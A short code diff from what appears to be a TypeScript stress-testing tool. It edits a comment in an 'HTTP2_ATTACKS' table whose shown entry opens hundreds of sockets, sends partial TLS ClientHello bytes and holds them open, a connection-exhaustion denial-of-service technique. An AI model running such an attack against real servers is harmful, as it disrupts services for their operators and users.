@@ -28,7 +28,7 @@ const NOTHING = Buffer.alloc(0)
 export const HTTP2_ATTACKS: Readonly<Record<string, (target: Target) => Promise<void>>> = {
   'half TLS handshakes': async (target) => {
     const sockets = range(200 * target.scale).map((n) => dial(target, n))
-    // The first bytes of a ClientHello that goes on for 512.
+    // The first bytes of a ClientHello of 512 bytes.
     for (const socket of sockets) socket.write(Buffer.from('16030102000100', 'hex'))
     await hold(sockets, LASTS(target.scale))
   },
